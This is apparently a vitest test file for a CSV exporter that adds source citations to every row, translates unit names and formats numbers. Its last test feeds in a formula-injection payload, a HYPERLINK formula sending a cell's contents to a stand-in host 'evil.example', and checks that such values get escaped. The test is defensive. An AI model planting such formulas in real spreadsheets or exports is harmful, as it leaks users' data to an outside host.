import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { citedCsv, csvField, SOURCE_COLUMNS } from './csv.js';
import type { Citation } from './statistics.js';

const cite = (dataset: string, licence: string): Citation => ({
  dataset,
  family: dataset,
  title: `Title of ${dataset}`,
  publisher: `Publisher, "${dataset}"`,
  edition: '2024',
  releaseDate: null,
  licence,
  sourceUrl: null,
  citation: `Citation of ${dataset}, with a comma`,
  caveats: null,
});

describe('CSV with its source on every row', () => {
  it('ends every row with its sources, joining several with " | ", and quotes what needs it', () => {
    const text = citedCsv(
      {
        columns: ['area', 'value', 'note'],
        rows: [
          { cells: { area: 'PHL', value: 1.5, note: null }, sources: ['a'] },
          { cells: { area: 'MEX', value: 2, note: 'x, "y"' }, sources: ['a', 'b'] },
        ],
      },
      [cite('a', 'CC BY 4.0'), cite('b', 'CC BY 3.0 IGO')],
    );
    const lines = text.split('\r\n');
    expect(lines[0]).toBe(['area', 'value', 'note', ...SOURCE_COLUMNS].join(','));
    expect(lines[1]).toBe('PHL,1.5,,a,"Publisher, ""a""",2024,CC BY 4.0,"Citation of a, with a comma"');
    expect(lines[3]).toBe('');
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows[1]).toMatchObject({
      note: 'x, "y"',
      dataset: 'a | b',
      licence: 'CC BY 4.0 | CC BY 3.0 IGO',
      citation: 'Citation of a, with a comma | Citation of b, with a comma',
    });
  });

  it('writes a unit column in the language asked, a unit it has no name for as given', () => {
    const table = {
      columns: ['value', 'unit'],
      rows: [
        { cells: { value: 1, unit: 'persons' }, sources: ['a'] },
        { cells: { value: 2, unit: 'current US$' }, sources: ['a'] },
        { cells: { value: 3, unit: 'my own unit' }, sources: ['a'] },
      ],
    };
    const units = (lang?: string) =>
      (parse(citedCsv(table, [cite('a', 'CC BY 4.0')], lang), { columns: true }) as Record<string, string>[]).map(
        (r) => r.unit,
      );
    expect(units()).toEqual(['persons', 'current US$', 'my own unit']);
    expect(units('fr')).toEqual(['personnes', 'dollars US courants', 'my own unit']);
    expect(units('es')).toEqual(['personas', 'US$ corrientes', 'my own unit']);
    // A name language Bridges has no unit names in (Arabic): English, as its notes are.
    expect(units('ar')).toEqual(units());
  });

  it('writes numbers in full and nothing for what is not one', () => {
    expect([0.1 + 0.2, -0, 52_375_047, Number.NaN, Number.POSITIVE_INFINITY, null, undefined].map(csvField)).toEqual([
      '0.30000000000000004',
      '0',
      '52375047',
      '',
      '',
      '',
      '',
    ]);
  });

  it('keeps a spreadsheet from running text as a formula, and leaves numbers written as text alone', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    );
    expect(csvField('+1+2')).toBe("'+1+2");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(['-0.5', '+3', '-1e-3', '-.5', 'Guinea-Bissau', 'a=b'].map(csvField)).toEqual([
      '-0.5',
      '+3',
      '-1e-3',
      '-.5',
      'Guinea-Bissau',
      'a=b',
    ]);
  });
});
